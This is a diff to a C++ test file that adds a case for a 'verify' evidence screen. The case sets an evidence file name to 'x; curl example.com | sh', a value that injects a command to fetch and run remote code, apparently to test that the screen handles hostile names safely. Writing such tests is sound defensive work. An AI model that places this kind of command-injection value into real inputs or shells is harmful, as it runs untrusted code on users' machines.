@@ -511,6 +511,13 @@ std::vector<Case> cases() {
          state.evidence_check->item = evidence_item(state, EvidenceKind::split_view);
          state.evidence_check->item.found_at_ms = 0;
        }},
+      {"verify_evidence_told", verify_screen, "verify",
+       [](State& state) {
+         state.evidence_check.emplace();
+         state.evidence_check->file_name = "x; curl example.com | sh";
+         state.evidence_check->item = evidence_item(state, EvidenceKind::rewound);
+         state.evidence_check->item.found_at_ms = 0;
+       }},
       {"verify_evidence_refused", verify_screen, "verify",
        [](State& state) {
          state.evidence_check.emplace();
